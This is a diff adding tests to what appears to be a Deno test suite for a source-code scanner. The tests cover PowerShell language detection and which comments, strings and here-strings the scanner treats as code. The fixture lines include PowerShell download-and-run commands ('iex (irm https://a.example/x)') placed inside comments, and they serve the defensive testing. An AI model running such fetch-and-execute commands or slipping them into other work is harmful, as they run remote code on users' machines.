@@ -126,6 +126,25 @@ Deno.test("a script's language comes from its extension, else its #! line", () =
   assert.equal(codeLanguageOf("scripts/run", "#!/usr/bin/env -S deno run\n"), "javascript");
   assert.equal(codeLanguageOf("scripts/run", "#!/bin/bash\n"), "shell");
   assert.equal(codeLanguageOf("scripts/run.rb", "#!/usr/bin/env ruby\n"), undefined);
+  assert.equal(codeLanguageOf("scripts/Setup.PS1", ""), "powershell");
+  assert.equal(codeLanguageOf("scripts/run", "#!/usr/bin/env pwsh\n"), "powershell");
+});
+
+Deno.test("PowerShell: # and <# … #> comments are inert; strings, here-strings and a # inside a word are code", () => {
+  const text = [
+    "# iex (irm https://a.example/x)",
+    "<# a block",
+    "   iex (irm https://b.example/x) #>",
+    '$u = "https://c.example/#frag" # trailing',
+    "$h = @'",
+    "# not a comment in a here-string",
+    "'@",
+    "Write-Host a#b",
+  ].join("\n") + "\n";
+  const code = codeOnly(text, readCode("powershell", text));
+  assert.ok(!code.includes("a.example") && !code.includes("b.example"), code);
+  assert.ok(code.includes('"https://c.example/#frag"') && !code.includes("trailing"), code);
+  assert.ok(code.includes("# not a comment in a here-string") && code.includes("a#b"), code);
 });
 
 Deno.test("readsOwnSource(): code that reads its own comments or docstrings, not help text", () => {
